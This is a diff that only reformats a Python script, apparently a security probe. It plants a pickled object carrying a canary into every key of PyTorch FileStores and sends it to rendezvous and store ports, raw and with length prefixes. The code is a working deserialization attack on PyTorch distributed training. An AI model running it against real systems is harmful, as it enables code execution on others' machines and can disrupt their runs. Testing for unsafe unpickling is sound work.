@@ -1,4 +1,5 @@
-"""Puts a pickle wherever a run would take bytes from a stranger: into every key of its stores, and down every port.
+"""Puts a pickle wherever a run would take bytes from a stranger: into every key of its stores, and
+down every port.
 
     python planting.py CANARY FILE... ADDRESS:PORT...
 
@@ -17,7 +18,13 @@ from pathlib import Path
 
 WAIT_S = 3.0
 # What torch's rendezvous, its stores and its process groups keep under keys of such names.
-KEYS = ("/rdzv/state", "torch.rendezvous.none", "default_pg/0//cpu//0", "default_pg/0//cpu//1", "store_based_barrier_key:1")
+KEYS = (
+    "/rdzv/state",
+    "torch.rendezvous.none",
+    "default_pg/0//cpu//0",
+    "default_pg/0//cpu//1",
+    "store_based_barrier_key:1",
+)
 
 
 class Evil:
@@ -29,8 +36,8 @@ class Evil:
 
 
 def into_file(path: Path, payload: bytes) -> int:
-    """Every key of a FileStore another value: it is a list of lengths, keys and values, where the last one counts. Returns how
-    many."""
+    """Every key of a FileStore another value: it is a list of lengths, keys and values, where the
+    last one counts. Returns how many."""
     raw, at, keys = path.read_bytes(), 0, []
     while at < len(raw):
         parts = []
@@ -41,26 +48,36 @@ def into_file(path: Path, payload: bytes) -> int:
         keys.append(parts[0])
     with path.open("ab") as file:
         for key in {*keys, *(f"/{name}".encode() for name in KEYS)} - {b"refcount/"}:
-            file.write(struct.pack("<i", len(key)) + key + struct.pack("<i", len(payload)) + payload)
+            file.write(
+                struct.pack("<i", len(key)) + key + struct.pack("<i", len(payload)) + payload
+            )
     return len(keys)
 
 
 def into_ports(places: list[str], payload: bytes) -> dict[str, int]:
-    """As it is, and behind its length as libraries write one; then as a client of torch's own store. All at once: a rank that
-    a stranger has talked to may end, and with it the others."""
+    """As it is, and behind its length as libraries write one; then as a client of torch's own
+    store. All at once: a rank that a stranger has talked to may end, and with it the others."""
     sent = dict.fromkeys(places, 0)
     there = [(place, socket.create_connection(_address(place), WAIT_S)) for place in places]
-    for head in (b"", struct.pack("<q", len(payload)), struct.pack(">q", len(payload)), struct.pack("<i", len(payload))):
+    for head in (
+        b"",
+        struct.pack("<q", len(payload)),
+        struct.pack(">q", len(payload)),
+        struct.pack("<i", len(payload)),
+    ):
         for place, one in there:
             with suppress(OSError):
                 one.sendall(head + payload)
                 sent[place] += 1
         there = [(place, again) for place in places for again in _again(place)]
-    clients = [threading.Thread(target=_set, args=(place, payload), daemon=True) for place in places]
+    clients = [
+        threading.Thread(target=_set, args=(place, payload), daemon=True) for place in places
+    ]
     for client in clients:
         client.start()
     for client in clients:
-        client.join(WAIT_S)  # where no store answers, torch's client waits for longer than it is told
+        # where no store answers, torch's client waits for longer than it is told
+        client.join(WAIT_S)
     return sent
 
 
@@ -88,7 +105,9 @@ def main(canary: str, *places: str) -> None:
     payload = pickle.dumps(Evil(canary))
     for path in [place for place in places if place.startswith("/")]:
         print(path, into_file(Path(path), payload))
-    for place, times in into_ports([place for place in places if not place.startswith("/")], payload).items():
+    for place, times in into_ports(
+        [place for place in places if not place.startswith("/")], payload
+    ).items():
         print(place, times)
 
 
